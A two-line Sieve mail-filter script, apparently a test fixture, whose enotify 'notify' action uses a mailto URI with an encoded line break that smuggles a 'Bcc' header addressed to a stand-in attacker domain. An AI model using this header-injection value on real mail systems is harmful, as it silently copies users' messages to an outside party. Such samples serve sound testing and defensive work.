require "enotify";
notify "mailto:bob@corp.example?subject=hi%0D%0ABcc:%20spy@evil.example";
